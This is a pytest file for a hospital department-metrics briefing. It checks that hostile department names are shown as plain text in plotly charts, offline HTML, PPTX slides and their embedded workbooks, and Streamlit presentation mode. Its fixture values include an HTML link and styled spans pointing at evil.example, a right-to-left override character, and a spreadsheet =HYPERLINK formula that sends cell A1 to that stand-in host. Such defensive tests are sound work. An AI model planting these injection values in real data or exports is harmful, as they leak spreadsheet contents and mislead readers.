"""Hostile department names in the briefing (PRODUCT §7): every sink shows a name as written —
the ranking chart (plotly renders a small HTML subset), the offline HTML, the PPTX text and its charts' embedded
workbooks (xlsxwriter writes a string starting with '=' as a formula) — and a bidi override never reverses a line."""

from __future__ import annotations

import io
import json
import re
import zipfile

import pytest

from metrics import briefing, store
from tests.figures import figures

LINK = '<a href="https://evil.example/x">放射科</a>'
HUGE = '<span style="font-size:120px">心血管内科</span>'
BOLD = "<b>内分</b><br>泌科"
RLO = "急诊科\u202e"  # a trailing RIGHT-TO-LEFT OVERRIDE: "61.5 未达 ≥ 90" would read "5.16 达未 ≤ 09"
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"泌尿外科")'
URL = "https://evil.example/泌尿"  # xlsxwriter makes a string starting with a URL scheme a live link
# departments below target in the newest demo quarter, so all six are on the ranking slide (only those)
HOSTILE = {"K10": LINK, "F04": HUGE, "T03": BOLD, "K20": RLO, "K16": FORMULA, "K18": URL}


@pytest.fixture
def hostile(demo_db):
    """The newest quarter's briefing with six departments renamed (all six are in its ranking)."""
    with store.opened(demo_db) as db:
        for code, name in HOSTILE.items():
            db["departments"].update(("", code), {"dept_name": name})
        b = briefing.build(db, briefing.available_quarters(db)[0], "zh")
    assert set(HOSTILE) <= set(b.ranking["dept_code"])
    return b


def _markup(s: str) -> bool:
    """Whether plotly.js would render part of ``s`` as markup (it knows a, b, i, br, span, sub, sup, em, s, u)."""
    return re.search(r"<\s*/?\s*(a|b|i|br|span|sub|sup|em|s|u)\b", s, flags=re.I) is not None


def _texts(fig) -> list[str]:
    """Every string plotly shows from a figure's data: x / y / text / hovertext / customdata, tick text and values."""
    out = []
    for tr in fig.data:
        for attr in ("x", "y", "text", "hovertext", "customdata", "name"):
            v = getattr(tr, attr, None)
            if isinstance(v, str):
                out.append(v)
            elif v is not None:
                out += [x for x in v if isinstance(x, str)]
    for ax in (fig.layout.xaxis, fig.layout.yaxis):
        out += [x for x in (ax.tickvals or ()) if isinstance(x, str)] + [x for x in (ax.ticktext or ())]
    return out


def test_ranking_chart_shows_names_as_written_never_as_markup(hostile):
    """A link, 120 px text, bold and a line break in a name stay text on the projector."""
    for which, fig in briefing.figures(hostile).items():
        texts = _texts(fig)
        assert not [s for s in texts if _markup(s)], which
        assert not [s for s in texts if "\u202e" in s], which
    ranking = _texts(briefing.ranking_figure(hostile))
    # plotly decodes entities, so the escaped name displays exactly as written
    assert '&lt;a href="https://evil.example/x"&gt;放射科&lt;/a&gt;' in ranking
    assert "&lt;b&gt;内分&lt;/b&gt;&lt;br&gt;泌科" in ranking
    assert "急诊科" in ranking


def _without_plotly_bundle(html: str) -> str:
    return re.sub(r"<script[^>]*>\s*/\*\*\s*\* plotly\.js v.*?</script>", "", html, flags=re.S)


def test_offline_html_has_no_live_link_or_override_from_data(hostile):
    """The downloaded HTML neither links nor enlarges from a name, in its text or its charts' data."""
    html = _without_plotly_bundle(briefing.to_html(hostile))
    # raw or JSON-escaped ('\u003c'), inside the page or inside a chart's data: no tag from a name survives
    unescaped = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), html).replace('\\"', '"')
    assert '<a href="https://evil.example' not in unescaped
    assert '<span style="font-size:120px">' not in unescaped
    assert "<b>内分</b>" not in unescaped
    assert "\u202e" not in unescaped
    assert "&lt;a href=&quot;https://evil.example/x&quot;&gt;放射科&lt;/a&gt;" in html  # the list shows it as text


def test_lines_never_carry_a_bidi_override(hostile):
    """The attention line of a department named with a trailing U+202E reads left to right."""
    tables = (briefing.attention_table, briefing.events_table, briefing.awards_table, briefing.notices_table)
    lines = [" ".join(row) for table in tables for row in table(hostile).rows]
    assert not [x for x in lines if "\u202e" in x]
    line = next(f"{m} {dept}：{why}" for m, dept, why in briefing.attention_table(hostile).rows if dept == "急诊科")
    assert re.search(r"急诊科：.*患者满意度 \d+\.\d 未达 ≥ 90", line)


def test_pptx_holds_no_formula_and_shows_names_literally(hostile):
    """The deck's embedded chart workbooks hold no formula built from a name; text shows names as written."""
    from openpyxl import load_workbook
    from pptx import Presentation

    data = briefing.to_pptx(hostile)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        books = [z.read(n) for n in z.namelist() if n.endswith(".xlsx")]
    assert books
    cells = []
    for blob in books:
        for ws in load_workbook(io.BytesIO(blob)).worksheets:
            cells += [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert any(isinstance(c.value, str) and FORMULA in c.value and c.data_type == "s" for c in cells)
    assert not [c.coordinate for c in cells if c.hyperlink is not None]
    assert any(isinstance(c.value, str) and URL in c.value for c in cells)

    prs = Presentation(io.BytesIO(data))
    categories = [c for s in prs.slides for sh in s.shapes if sh.has_chart for c in sh.chart.plots[0].categories]
    assert any(FORMULA in c for c in categories) and LINK in categories
    text = "\n".join(sh.text_frame.text for s in prs.slides for sh in s.shapes if sh.has_text_frame)
    text += "\n".join(
        c.text for s in prs.slides for sh in s.shapes if sh.has_table for r in sh.table.rows for c in r.cells
    )
    assert "\u202e" not in text and "\u202e" not in json.dumps(categories, ensure_ascii=False)
    assert LINK in text  # a PPTX text run is never markup: the name shows exactly as written


def test_presentation_slides_draw_names_as_text(hostile, demo_db):
    """Hostile names on the projector: the page's ranking chart and attention list, in presentation mode."""
    from pathlib import Path

    from streamlit.testing.v1 import AppTest

    app = str(Path(__file__).resolve().parent.parent / "dashboard.py")
    at = AppTest.from_file(app, default_timeout=90)
    at.switch_page("pages/briefing.py")
    at.query_params.update(present="1", slide="2", quarter=hostile.quarter)
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    (spec,) = figures(at)
    ticks = spec["data"][0]["y"]  # horizontal bars: the names are the y categories
    assert '&lt;a href="https://evil.example/x"&gt;放射科&lt;/a&gt;' in ticks and not [x for x in ticks if _markup(x)]
    for _ in range(12):  # on to slide 6, the departments needing attention (after any continued slides)
        if "需要关注的科室" in [t.value for t in at.title]:
            break
        at.button(key="_brief_next").click().run()
    cells = [str(c) for t in at.table for c in t.value.to_numpy().ravel()]
    rest = [t.value for t in at.text]  # the departments beyond the table, named in one line
    assert ("急诊科" in cells or any("急诊科、" in x for x in rest)) and not [x for x in cells + rest if "\u202e" in x]
    tags = [x for x in cells if "<" in x]
    assert tags and all(x.count("\\<") == x.count("<") for x in tags)  # st.table reads Markdown: every < escaped
